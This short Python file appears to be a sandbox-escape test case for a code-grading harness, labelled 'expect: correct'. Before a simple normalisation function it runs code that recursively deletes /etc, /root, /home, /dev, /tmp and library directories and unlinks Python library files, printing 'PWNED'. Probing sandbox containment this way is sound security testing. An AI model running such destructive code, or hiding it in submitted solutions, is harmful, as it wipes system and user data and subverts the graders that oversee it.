# expect: correct
import os, shutil
for d in ('/tmp', '/box', '/packages/numpy/linalg', '/root', '/home', '/etc', '/dev', '/usr/share/doc/bubblewrap', '/usr/lib/python3.11/json'):
    shutil.rmtree(d, ignore_errors=True)
for r, ds, fs in os.walk('/usr/lib/python3'):
    for f in fs[:3]:
        try: os.unlink(os.path.join(r, f)); print('PWNED deleted', f)
        except OSError: pass
    break

def solve(x):
    return (x - x.mean()) / x.std()
